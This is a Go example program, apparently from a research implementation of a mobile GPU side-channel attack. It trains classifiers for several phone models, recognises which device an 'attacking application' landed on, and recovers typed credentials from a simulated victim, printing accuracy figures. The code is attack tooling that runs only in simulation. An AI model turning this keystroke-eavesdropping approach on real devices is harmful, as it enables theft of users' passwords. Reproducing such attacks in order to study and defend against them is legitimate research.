// Multidevice demonstrates §3.2 device recognition and §7.5 adaptability:
// the attacking application ships classifiers for several phone models
// and configurations, recognizes which device it landed on from the
// app-launch counter fingerprint, and applies the right model.
package main

import (
	"context"
	"fmt"
	"log"

	"gpuleak"
	"gpuleak/internal/sim"
)

func main() {
	ctx := context.Background()
	log.SetFlags(0)

	devices := []gpuleak.DeviceModel{
		gpuleak.LGV30, gpuleak.Pixel2, gpuleak.OnePlus7Pro,
		gpuleak.OnePlus8Pro, gpuleak.OnePlus9, gpuleak.GalaxyS21,
	}

	// Offline phase per configuration; the bundle ships with the APK.
	var models []*gpuleak.Model
	for _, dev := range devices {
		cfg := gpuleak.VictimConfig{Device: dev, Seed: 1}
		m, err := gpuleak.TrainContext(ctx, cfg, gpuleak.CollectOptions{})
		if err != nil {
			log.Fatalf("training %s: %v", dev.Name, err)
		}
		models = append(models, m)
	}
	atk := gpuleak.NewAttack(models...)
	// §7.4: poll at no more than half the refresh interval; 4 ms covers
	// the 120 Hz devices in the bundle.
	atk.Interval = 4 * sim.Millisecond
	fmt.Printf("attacking app preloaded with %d device models\n\n", len(models))

	// The attacker does not know which device the victim uses; the launch
	// fingerprint decides.
	hits, recognized := 0, 0
	for i, dev := range devices {
		cfg := gpuleak.VictimConfig{Device: dev, Seed: int64(900 + i)}
		sess := gpuleak.NewVictim(cfg)
		sess.Run(gpuleak.TypeText("t0psecret", int64(40+i)))
		file, err := sess.Open()
		if err != nil {
			log.Fatal(err)
		}
		res, err := atk.EavesdropContext(ctx, file, 0, sess.End)
		if err != nil {
			log.Fatal(err)
		}
		truth := sess.TypedText()
		okDev := res.Model.Device == dev.Name
		okText := res.Text == truth
		if okDev {
			recognized++
		}
		if okText {
			hits++
		}
		fmt.Printf("%-20s recognized as %-20s device-ok=%-5v text=%q ok=%v\n",
			dev.Name, res.Model.Device, okDev, res.Text, okText)
	}
	fmt.Printf("\nrecognition: %d/%d; exact credential recovery: %d/%d\n",
		recognized, len(devices), hits, len(devices))
}
